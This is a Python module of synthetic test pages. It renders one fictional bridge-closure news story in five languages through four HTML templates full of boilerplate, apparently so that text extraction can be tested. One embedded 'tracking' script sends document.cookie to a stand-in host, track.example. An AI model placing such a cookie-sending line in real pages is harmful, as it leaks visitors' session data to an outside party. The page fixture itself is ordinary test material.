"""Web pages as newsrooms make them: the same story in templates with navigation, advertisements, related links and comments."""

import json
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Story:
    """What a page is about, and what a reader of it has to find again; `published` is an ISO date."""

    title: str
    author: str
    outlet: str
    published: str
    language: str
    paragraphs: tuple[str, ...]

    @property
    def url(self) -> str:
        return f"https://www.{self.outlet.lower().replace(' ', '')}.example/news/{self.published}/story-8121"


ENGLISH = Story(
    "Council votes to close the old bridge", "Ada Osei", "The Harbour Post", "2026-03-02", "en",
    (
        "The town council voted on Monday night to close the old bridge to all traffic, the mayor, Ruth Anselm, said after a "
        "session of five hours. 🌉",
        "“It is unsafe, and it has been unsafe for a year,” she told reporters. The vote was nine to four.",
        "Engineers hired by the council found in January that two of the six piers had moved by four centimetres, according to a "
        "report seen by this newspaper.",
        "The company that maintained the bridge, Tern Works, denied that it had been told of the cracks. “Nobody rang us,” its "
        "director, Paul Idris, said in a statement.",
        "A person with knowledge of the talks said that the ministry would pay half of the repair, which could cost 12 million.",
        "Shopkeepers on the north bank fear for their trade. “Two thirds of my customers walk over it,” Lena Bauer, who sells bread "
        "there, said on Tuesday.",
        "The bridge, which opened in 1931, is to be closed from the first of April until the autumn of next year at least.",
    ),
)  # fmt: skip
GERMAN = Story(
    "Stadtrat beschließt Sperrung der alten Brücke", "Jörg Weiß", "Der Hafenbote", "2025-11-19", "de",
    (
        "Der Stadtrat hat am Montagabend beschlossen, die alte Brücke für den gesamten Verkehr zu sperren, wie Bürgermeisterin Ruth "
        "Anselm nach fünfstündiger Sitzung mitteilte.",
        "„Sie ist unsicher, und das seit einem Jahr“, sagte sie vor Journalisten. Neun Räte stimmten dafür, vier dagegen.",
        "Gutachter hatten im Januar festgestellt, dass sich zwei der sechs Pfeiler um vier Zentimeter verschoben haben, heißt es in "
        "einem Bericht, der dieser Zeitung vorliegt.",
        "Die Firma, die die Brücke wartete, bestritt, von den Rissen gewusst zu haben. „Uns hat niemand angerufen“, erklärte ihr Chef.",
        "Die Brücke soll vom ersten April an bis mindestens zum Herbst des nächsten Jahres geschlossen bleiben.",
    ),
)  # fmt: skip
HINDI = Story(
    "परिषद ने पुराना पुल बंद करने का फैसला किया", "आशा वर्मा", "बंदरगाह समाचार", "2026-01-08", "hi",
    (
        "नगर परिषद ने सोमवार रात को पुराने पुल को सभी वाहनों के लिए बंद करने का फैसला किया, महापौर ने पाँच घंटे की बैठक के बाद बताया।",
        "“यह असुरक्षित है, और एक साल से असुरक्षित है,” उन्होंने पत्रकारों से कहा। प्रस्ताव के पक्ष में नौ और विरोध में चार मत पड़े।",
        "जनवरी में विशेषज्ञों ने पाया था कि छह में से दो खंभे चार सेंटीमीटर खिसक गए हैं, ऐसा एक रिपोर्ट में लिखा है जो इस अखबार ने देखी है।",
        "पुल की देखभाल करने वाली कंपनी ने इनकार किया कि उसे दरारों के बारे में बताया गया था। उसके निदेशक ने कहा, “हमें किसी ने फ़ोन नहीं किया।”",
    ),
)  # fmt: skip
KOREAN = Story(
    "시의회, 옛 다리 폐쇄 결정", "김하나", "항구일보", "2026-02-11", "ko",
    (
        "시의회가 월요일 밤 옛 다리의 모든 통행을 금지하기로 의결했다고 시장이 다섯 시간의 회의 뒤에 밝혔다.",
        "“다리는 위험하고, 일 년 전부터 위험했다”고 시장은 기자들에게 말했다. 찬성은 아홉 표, 반대는 네 표였다.",
        "지난 1월 기술자들은 여섯 개의 교각 가운데 두 개가 4센티미터 움직였다는 사실을 확인했다고 본지가 입수한 보고서는 전한다.",
        "다리를 관리해 온 회사는 균열에 대해 들은 적이 없다고 부인했다. 이 회사 대표는 성명에서 “아무도 전화하지 않았다”고 말했다.",
    ),
)  # fmt: skip
ARABIC = Story(
    "المجلس يقرر إغلاق الجسر القديم", "سلمى حداد", "بريد الميناء", "2025-12-30", "ar",
    (
        "قرر مجلس المدينة مساء الاثنين إغلاق الجسر القديم أمام حركة المرور كلها، كما أعلنت رئيسة البلدية بعد جلسة استمرت خمس ساعات.",
        "وقالت للصحفيين: «إنه غير آمن، وهو كذلك منذ عام». وصوّت تسعة أعضاء لصالح القرار وعارضه أربعة.",
        "وكان المهندسون قد وجدوا في يناير أن دعامتين من أصل ست تحركتا أربعة سنتيمترات، وفق تقرير اطلعت عليه هذه الصحيفة.",
        "ونفت الشركة التي تتولى صيانة الجسر أنها أُبلغت بالشقوق، وقال مديرها في بيان: «لم يتصل بنا أحد».",
    ),
)  # fmt: skip
STORIES = (ENGLISH, GERMAN, HINDI, KOREAN, ARABIC)

_NAV = """<header class="site-header"><a class="logo" href="/">Home</a><nav><ul><li><a href="/politics">Politics</a></li>
<li><a href="/business">Business</a></li><li><a href="/sport">Sport</a></li><li><a href="/subscribe">Subscribe now</a></li></ul></nav></header>"""
_AD = '<div class="ad-slot" id="ad-1"><span>Advertisement</span><a href="https://ads.example/x">Save 40% on your next mattress</a></div>'
_RELATED = """<aside class="related"><h3>Related stories</h3><ul><li><a href="/a1">Ferry timetable changes from May</a></li>
<li><a href="/a2">Ten walks along the river</a></li><li><a href="/a3">Opinion: we never needed the bridge</a></li></ul></aside>"""
_COMMENTS = """<section id="comments" class="comments"><h3>Comments (2)</h3><div class="comment"><b>Gull77</b>
<p>I have always said that this mayor could not build a sandcastle.</p></div><div class="comment"><b>Northbanker</b>
<p>My bakery visit takes forty minutes now, thank you very much.</p></div></section>"""
_FOOT = """<footer class="site-footer"><p>Sign up for our morning newsletter.</p><ul><li><a href="/privacy">Privacy policy</a></li>
<li><a href="/terms">Terms of use</a></li></ul><p>© All rights reserved.</p></footer>"""
_COOKIES = '<div id="cookie-banner" role="dialog"><p>We use cookies to improve your experience.</p><button>Accept all</button></div>'
_SCRIPT = "<script>window.dataLayer=[];fetch('https://track.example/hit?'+document.cookie)</script><img src='https://track.example/pixel.gif'>"


def _paragraphs(story: Story, between: str = "") -> str:
    half = len(story.paragraphs) // 2
    parts = [f"<p>{words}</p>" for words in story.paragraphs]
    return "\n".join([*parts[:half], between, *parts[half:]])


def _open_graph(story: Story) -> str:
    return f"""<meta property="og:title" content="{story.title}"><meta property="og:site_name" content="{story.outlet}">
<meta name="author" content="{story.author}"><meta property="article:published_time" content="{story.published}T08:30:00+01:00">
<link rel="canonical" href="{story.url}">"""


def _linked_data(story: Story) -> str:
    data = {
        "@context": "https://schema.org", "@type": "NewsArticle", "headline": story.title, "datePublished": f"{story.published}T08:30:00Z",
        "author": {"@type": "Person", "name": story.author}, "publisher": {"@type": "Organization", "name": story.outlet},
        "mainEntityOfPage": story.url,
    }  # fmt: skip
    return f'<script type="application/ld+json">{json.dumps(data, ensure_ascii=False)}</script>'


def modern(story: Story) -> str:
    """An <article> with everything around it that a large site has."""
    return f"""<!DOCTYPE html><html lang="{story.language}"><head><meta charset="utf-8"><title>{story.title} | {story.outlet}</title>
{_open_graph(story)}{_SCRIPT}</head><body>{_COOKIES}{_NAV}<main><article><header><h1>{story.title}</h1>
<div class="byline">By <a rel="author" href="/by">{story.author}</a> <time datetime="{story.published}">{story.published}</time></div></header>
<div class="article-body">{_paragraphs(story, _AD)}</div></article>{_RELATED}{_COMMENTS}</main>{_FOOT}</body></html>"""


def linked_data(story: Story) -> str:
    """A page that tells of itself in JSON-LD alone, its text in nameless boxes."""
    return f"""<!DOCTYPE html><html lang="{story.language}"><head><meta charset="utf-8"><title>{story.title}</title>{_linked_data(story)}
<link rel="canonical" href="{story.url}"></head><body><div class="x1">{_NAV}</div><div class="x2"><div class="x3"><h1>{story.title}</h1>
<div class="x4">{_paragraphs(story)}</div></div><div class="x5">{_RELATED}</div></div>{_FOOT}</body></html>"""


def blog(story: Story) -> str:
    """What WordPress makes of it."""
    return f"""<!DOCTYPE html><html lang="{story.language}-XX"><head><meta charset="UTF-8"><title>{story.title} – {story.outlet}</title>
{_open_graph(story)}</head><body class="single-post"><div id="page">{_NAV}<div id="content"><article id="post-12" class="post type-post">
<header class="entry-header"><h1 class="entry-title">{story.title}</h1><div class="entry-meta"><span class="byline">by
<span class="author vcard"><a class="url fn n">{story.author}</a></span></span></div></header><div class="entry-content">
{_paragraphs(story)}<div class="sharedaddy"><h3>Share this:</h3><ul><li><a>Facebook</a></li><li><a>E-mail</a></li></ul></div></div></article>
{_COMMENTS}</div><aside id="secondary" class="widget-area"><h2>Recent posts</h2><ul><li><a href="/p">Ten walks along the river</a></li></ul>
</aside>{_FOOT}</div></body></html>"""


def table_layout(story: Story) -> str:
    """A page as they were made in 1999 and still are in places: tables for columns, no heading, no tags of its own."""
    return f"""<html lang="{story.language}"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>{story.title}</title>{_open_graph(story)}</head><body><table width="100%"><tr><td width="150"><a href="/">Home</a><br><a href="/p">Politics</a>
<br><a href="/s">Sport</a></td><td><h1>{story.title}</h1>{_paragraphs(story)}</td><td width="160">{_AD}</td></tr></table>
<hr><center><font size="1"><a href="/privacy">Privacy</a> | <a href="/contact">Contact</a></font></center></body></html>"""


TEMPLATES: tuple[Callable[[Story], str], ...] = (modern, linked_data, blog, table_layout)

FOREIGN = (
    "mattress", "Ferry timetable", "sandcastle", "Northbanker", "newsletter", "cookies", "Ten walks", "Privacy", "Politics", "track.example",
)  # fmt: skip
"""Words that are on the pages and in no story."""
